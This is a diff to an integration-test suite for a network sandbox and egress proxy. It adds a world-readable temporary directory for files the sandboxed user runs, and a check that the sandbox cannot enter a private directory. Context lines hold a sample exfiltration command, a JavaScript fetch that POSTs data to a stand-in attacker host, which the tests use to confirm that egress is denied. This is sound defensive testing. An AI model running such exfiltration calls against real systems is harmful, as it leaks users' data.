@@ -9,11 +9,13 @@ namespaces and links with its netid), so another checkout can run these at
 the same time; the test's namespaces are removed even when a test fails."""
 import json
 import os
+import pathlib
 import random
 import shutil
 import signal
 import subprocess
 import sys
+import tempfile
 import time
 
 import pytest
@@ -79,6 +81,22 @@ FETCH = ('fetch("https://attacker.example.com/exfil",{method:"POST",body:"x"})'
          '.catch(e=>console.log("DENIED:",e.message))')
 
 
+def public_dir():
+    """A directory the sandbox's unprivileged user can read (pytest's tmp_path
+    is under /tmp/pytest-of-root, mode 0700): files a sandboxed command runs
+    or reads go here. The caller removes it."""
+    d = tempfile.mkdtemp(prefix="tgtest-pub-", dir="/tmp")
+    os.chmod(d, 0o755)
+    return d
+
+
+@pytest.fixture
+def pub():
+    d = public_dir()
+    yield d
+    shutil.rmtree(d, ignore_errors=True)
+
+
 def sh(*args, check=True):
     r = subprocess.run(list(args), capture_output=True)
     if check and r.returncode != 0:
@@ -90,7 +108,7 @@ def sh(*args, check=True):
 def internet(tmp_path_factory):
     """A namespace with an HTTPS server on 10.204.R.2:443, reachable from the
     host (where the proxies dial) through a veth."""
-    d = tmp_path_factory.mktemp("internet")
+    d = pathlib.Path(public_dir())  # the sandbox's curl reads cert.pem
     used = sh("ip", "-o", "-4", "addr", "show").stdout.decode()
     r = next(i for i in random.sample(range(1, 250), 249) if f" 10.204.{i}.1/" not in used)
     tag = "%04x" % random.getrandbits(16)
@@ -119,6 +137,7 @@ def internet(tmp_path_factory):
             proc.wait()
         subprocess.run(["ip", "link", "del", link], capture_output=True)
         subprocess.run(["ip", "netns", "del", ns], capture_output=True)
+        shutil.rmtree(d, ignore_errors=True)
 
 
 class Up:
@@ -213,7 +232,7 @@ def grep_tree(root, needle):
 
 
 @pytest.mark.skipif(not NODE, reason="node is not installed (Debian: nodejs)")
-def test_exfiltration_scenario(up, internet, tmp_path):
+def test_exfiltration_scenario(up, internet, tmp_path, pub):
     u = up()
     node = os.path.realpath(NODE)
     curl = os.path.realpath(shutil.which("curl"))
@@ -261,7 +280,7 @@ def test_exfiltration_scenario(up, internet, tmp_path):
               f"{internet['ip']}:443:read-write:rest:enforce", "--rule-name", "upstream",
               "--binary", node, "--wait")
     assert r.returncode == 0, (r.stdout, r.stderr)
-    script = tmp_path / "client.js"
+    script = pathlib.Path(pub) / "client.js"
     script.write_text(NODE_CONNECT)
     r = u.exec("codex-box", "node", str(script), internet["ip"], "443", internet["cert"])
     assert r.returncode == 0 and r.stdout == b"hello from the internet\n", (r.stdout, r.stderr)
@@ -375,7 +394,7 @@ def test_sandbox_reaches_nothing_but_its_proxy(up, internet, tmp_path):
     validate(tmp_path, u.events())
 
 
-def test_exec_passes_stdio_exit_status_and_a_clean_environment(up, tmp_path):
+def test_exec_passes_stdio_exit_status_and_a_clean_environment(up, tmp_path, pub):
     u = up()
     assert u.cli("sandbox", "create", "--name", "plain").returncode == 0
     r = u.exec("plain", "cat", input=b"line one\nline two\n")
@@ -392,8 +411,10 @@ def test_exec_passes_stdio_exit_status_and_a_clean_environment(up, tmp_path):
     assert r.returncode == 0
     assert b"caller-secret" not in r.stdout and b"TOLLGATE_TOKEN" not in r.stdout
     assert b"PASSED=yes\n" in r.stdout and b"HTTP_PROXY=" in r.stdout
-    r = u.exec("plain", "pwd", cwd=str(tmp_path))
-    assert r.stdout.decode().strip() == str(tmp_path)
+    r = u.exec("plain", "pwd", cwd=pub)
+    assert r.stdout.decode().strip() == pub
+    r = u.exec("plain", "pwd", cwd=str(tmp_path))  # the sandbox's user may not enter it
+    assert r.returncode == 1 and b"--cwd" in r.stderr and b"Permission denied" in r.stderr
     # without privileges: at once, with a clear message
     r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                         "--inh-caps=-all", u.binary, "sandbox", "exec", "--name", "plain", "--",
